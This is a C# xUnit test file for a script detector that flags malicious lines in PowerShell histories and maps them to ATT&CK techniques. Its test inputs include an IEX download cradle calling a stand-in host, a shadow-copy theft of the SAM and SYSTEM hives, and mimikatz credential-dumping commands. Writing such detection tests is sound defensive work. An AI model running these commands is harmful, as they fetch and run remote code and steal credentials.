using Afterpatch.Analysis.Detectors.Scripts;
using Afterpatch.Core;
using Afterpatch.Scripts.PowerShell;
using Xunit;

namespace Afterpatch.Analysis.Tests.Scripts;

public sealed class ScriptDetectorTests
{
    [Fact]
    public void A_malicious_line_of_a_history_is_pointed_to()
    {
        var finding = Assert.Single(Run("whoami\nGet-Date\nIEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')\nhostname"));
        Assert.Equal("script.malicious", finding.Detector);
        var evidence = Assert.Single(finding.Evidence);
        Assert.Equal(3, evidence.At.Line);
        Assert.StartsWith("IEX", evidence.Excerpt, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("cmd /c vssadmin create shadow /for=C: & copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM C:\\Windows\\Temp\\s & copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SYSTEM C:\\Windows\\Temp\\y", Question.Taken)]
    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')", Question.Exploited)]
    public void A_script_answers_by_the_techniques_of_its_reasons(string line, Question question) =>
        Assert.Contains(question, Assert.Single(Run(line)).Answers);

    [Theory]
    [InlineData("passwords-of-servers-read", "T1552.001", Question.Taken)]
    [InlineData("records-dumped-and-sent", "T1213.006", Question.Taken)]
    [InlineData("exit-of-program-watched", "T1546.012", Question.StillInside)]
    [InlineData("remote-run-through-object", "T1021.003", Question.Spread)]
    [InlineData("cleartext-passwords-enabled", "T1003.001", Question.Exploited)]
    [InlineData("amsi-bypass", "T1562.001", Question.Exploited)]
    [InlineData("anything-new", "T10031", Question.Exploited)]
    public void Every_technique_has_its_question(string reason, string technique, Question question) =>
        Assert.Equal([question], ScriptQuestions.Of(new ScriptJudgement { Text = "", Reasons = [new(reason, "", true) { Techniques = [technique] }] }));

    [Theory]
    [InlineData("mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", "T1003.001")]
    [InlineData("mimikatz.exe \"lsadump::dcsync /user:krbtgt\" exit", "T1003.006")]
    [InlineData("mimikatz.exe \"lsadump::sam\" exit", "T1003.002")]
    public void A_password_tool_takes_what_its_module_takes(string line, string technique) =>
        Assert.Equal([technique], Assert.Single(Run(line)).Attack.Where(one => one.StartsWith("T1003", StringComparison.Ordinal)));

    [Fact]
    public void An_administrators_history_is_quiet() => Assert.Empty(Run("Get-Mailbox\nGet-Date\nRestart-Service W3SVC"));

    private static List<Finding> Run(string history)
    {
        var detector = new ScriptDetector();
        var findings = new List<Finding>();
        detector.Observe(new ScriptSighting { At = new EvidencePointer(@"C:\Users\a\ConsoleHost_history.txt"), Family = "history", Text = history }, findings);
        detector.Complete(findings);
        return findings;
    }
}
